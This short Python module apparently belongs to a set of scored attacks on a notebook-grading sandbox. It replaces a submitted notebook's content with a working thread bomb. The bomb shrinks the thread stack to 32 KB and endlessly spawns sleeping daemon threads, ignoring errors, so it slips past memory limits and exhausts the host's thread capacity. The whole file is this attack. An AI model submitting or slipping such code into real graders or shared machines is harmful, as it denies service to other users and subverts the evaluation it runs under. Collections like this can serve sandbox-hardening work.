"""Starts threads with the smallest stack there is, so that memory limits allow tens of thousands.

Threads are counted, whatever their size.
"""

from attacks.build import instead
from nbformat import NotebookNode

EARNS = 5


def submission(released: NotebookNode) -> NotebookNode:
    return instead(
        released,
        """
        import threading, time
        threading.stack_size(32768)
        while True:
            try:
                threading.Thread(target=time.sleep, args=(10**6,), daemon=True).start()
            except RuntimeError:
                pass
        """,
    )
